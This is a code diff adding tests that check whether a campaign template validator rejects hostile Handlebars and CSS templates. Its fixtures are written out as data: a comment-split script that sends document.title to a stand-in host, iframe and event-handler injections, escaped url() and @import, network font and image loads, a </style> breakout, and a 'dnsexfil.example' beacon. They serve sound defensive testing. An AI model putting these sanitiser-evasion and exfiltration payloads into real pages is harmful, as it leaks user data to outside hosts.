@@ -201,3 +201,93 @@ describe('every editor: CRLF, CR and a BOM', () => {
     }
   });
 });
+
+describe('templates are checked as what they produce', () => {
+  const SPEC = JSON.stringify({
+    description: 'x',
+    channel: 'social',
+    output: 'png',
+    formats: { sq: { width: 400, height: 400, unit: 'px' } },
+  });
+  /** A template named evil, used by the campaign; `check` renders every page (without a browser). */
+  function withTemplate(files: { hbs?: string; css?: string; base?: string }) {
+    writeFiles(path.join(root, 'templates', 'evil'), {
+      'template.json': SPEC,
+      'template.hbs': files.hbs ?? '<main class="page"><h1>{{t "campaign:headline"}}</h1></main>\n',
+      'style.css': files.css ?? '.page { color: var(--primary); }\n',
+    });
+    if (files.base !== undefined) writeFiles(path.join(root, 'templates', '_shared'), { 'base.css': files.base });
+    return check({ 'campaign.md': campaignMd({ id: 'c', outputs: '  - template: evil' }) });
+  }
+
+  it('control: a plain template passes', () => {
+    expect(withTemplate({}).code).toBe(0);
+  });
+
+  it('a <script> split with {{!}} is seen after Handlebars ran', () => {
+    const r = withTemplate({
+      hbs: '<main class="page">\n<scr{{!}}ipt>fetch("https://x.example/"+document.title)</scr{{!}}ipt>\n</main>\n',
+    });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/templates\/evil\/template\.hbs: <script> is not allowed in a template \(in the page the template produced\)/);
+  });
+
+  it('an iframe and an event handler split with {{!}}', () => {
+    const r = withTemplate({
+      hbs: '<main class="page"><ifr{{!}}ame src="{{url campaign.contact.url}}"></ifr{{!}}ame><p o{{!}}nclick="x()">a</p></main>\n',
+    });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/<iframe> is not allowed/);
+    expect(r.stderr).toMatch(/attribute onclick on <p> is not allowed/);
+  });
+
+  for (const [what, css, message] of [
+    ['an escaped url(', '.page { background: u\\72l(https://x.example/a.png); }\n', /does not parse cleanly|could not read|url\(/],
+    [
+      'an escaped url( with a quoted string',
+      '.page { background: \\75 rl("https://x.example/a.png"); }\n',
+      /CSS function url\(\) is not allowed/,
+    ],
+    ['an escaped @import', '@\\69mport "https://x.example/a.css";\n.page { color: red; }\n', /@import is not allowed/],
+    ['image-set()', '.page { background-image: image-set("https://x.example/a.png" 1x); }\n', /CSS function image-set\(\) is not allowed/],
+    [
+      'a </style> breakout',
+      '.page { color: red; }\n</style><iframe src="https://x.example/"></iframe><style>\n',
+      /"<\/" in CSS could end the <style> element/,
+    ],
+    ['@font-face from the network', '@font-face { font-family: x; src: url(https://x.example/f.woff2); }\n', /@font-face is not allowed/],
+  ] as const) {
+    it(`style.css with ${what}`, () => {
+      const r = withTemplate({ css });
+      expect(r.code).toBe(2);
+      expect(r.stderr).toMatch(/templates\/evil\/style\.css:\d+: /);
+      expect(r.stderr).toMatch(message);
+    });
+  }
+
+  it('a hostile _shared/base.css is checked too', () => {
+    const r = withTemplate({ base: ':root { --x: 1; }\n.page { background: url("https://dnsexfil.example/a.png"); }\n' });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/templates\/_shared\/base\.css:2: url\(https:\/\/dnsexfil\.example\/a\.png\) is not allowed/);
+  });
+
+  it('a style attribute is parsed as CSS', () => {
+    const r = withTemplate({
+      hbs: '<main class="page" style="background-image: image-set(&quot;https://x.example/a.png&quot; 1x)">x</main>\n',
+    });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/style attribute: CSS function image-set\(\) is not allowed/);
+  });
+
+  it('{{log}} and {{lookup}} are not helpers; @root holds only the data', () => {
+    const log = withTemplate({ hbs: '<main class="page">{{log campaign.id}}</main>\n' });
+    expect(log.code).toBe(2);
+    expect(log.stderr).toMatch(/templates\/evil\/template\.hbs.*log/);
+    expect(log.stdout).not.toContain('"c"');
+    expect(withTemplate({ hbs: '<main class="page">{{lookup campaign "id"}}</main>\n' }).code).toBe(2);
+    const root_ = withTemplate({ hbs: '<main class="page">{{@root._ctx.lng}}</main>\n' });
+    expect(root_.code).toBe(2);
+    // The helpers' context is not in the data: @root._ctx is undefined.
+    expect(root_.stderr).toMatch(/"lng" not defined in undefined/);
+  });
+});
